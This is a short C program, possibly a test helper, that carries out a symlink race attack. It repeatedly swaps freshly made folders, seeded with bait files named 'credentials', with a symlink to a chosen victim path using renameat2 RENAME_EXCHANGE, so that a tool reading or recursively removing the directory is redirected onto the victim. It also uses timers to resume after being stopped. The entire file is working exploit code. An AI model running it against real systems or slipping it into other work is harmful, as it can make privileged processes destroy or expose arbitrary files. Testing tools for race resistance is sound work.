// swap OUT VICTIM [MILLISECONDS]: makes folders and links to VICTIM in OUT and exchanges their names without
// end, so that who reads or removes OUT by path gets from a folder to the victim. With a time, it
// goes on so soon after it was stopped, and after twice as long, and so on.
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define TIMERS 8
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static void put(int out, const char* folder, const char* name) {
  char path[512];
  snprintf(path, sizeof path, "%s/%s", folder, name);
  int fd = openat(out, path, O_WRONLY | O_CREAT, 0644);
  if (fd < 0) return;
  (void)!write(fd, "mine", 4);
  close(fd);
}

static void nothing(int signal) { (void)signal; }

int main(int argc, char** argv) {
  if (argc < 3) return 2;
  const int out = open(argv[1], O_RDONLY | O_DIRECTORY);
  const char* inner[] = {"", "/deep", "/deep/deeper"};
  if (out < 0) return 3;
  timer_t timers[TIMERS];
  struct sigevent event = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGCONT};
  const long first = argc > 3 ? atol(argv[3]) : 0;
  if (argc > 3) {
    signal(SIGCONT, nothing);
    for (int at = 0; at < TIMERS; at++) {
      if (timer_create(CLOCK_MONOTONIC, &event, &timers[at]) != 0) return 4;
    }
  }
  for (;;) {
    struct timespec now;
    char folder[300], link[300], path[400];
    clock_gettime(CLOCK_MONOTONIC, &now);
    const long long number = now.tv_sec * 1000000000LL + now.tv_nsec;
    snprintf(folder, sizeof folder, "folder-%lld", number);
    snprintf(link, sizeof link, "link-%lld", number);
    for (int at = 0; at < 3; at++) {
      snprintf(path, sizeof path, "%s%s", folder, inner[at]);
      mkdirat(out, path, 0755);
      put(out, path, "credentials");
      put(out, path, "kept");
    }
    symlinkat(argv[2], out, link);
    // Until the folder was emptied.
    while (renameat2(out, folder, out, link, RENAME_EXCHANGE) == 0) {
      // Being stopped takes away a signal that waits: only a timer that is still to come helps.
      for (int at = 0; first > 0 && at < TIMERS; at++) {
        const long wait = first << at;
        const struct itimerspec later = {{0, 0}, {wait / 1000, wait % 1000 * 1000000}};
        timer_settime(timers[at], 0, &later, NULL);
      }
    }
    unlinkat(out, link, 0);
  }
}
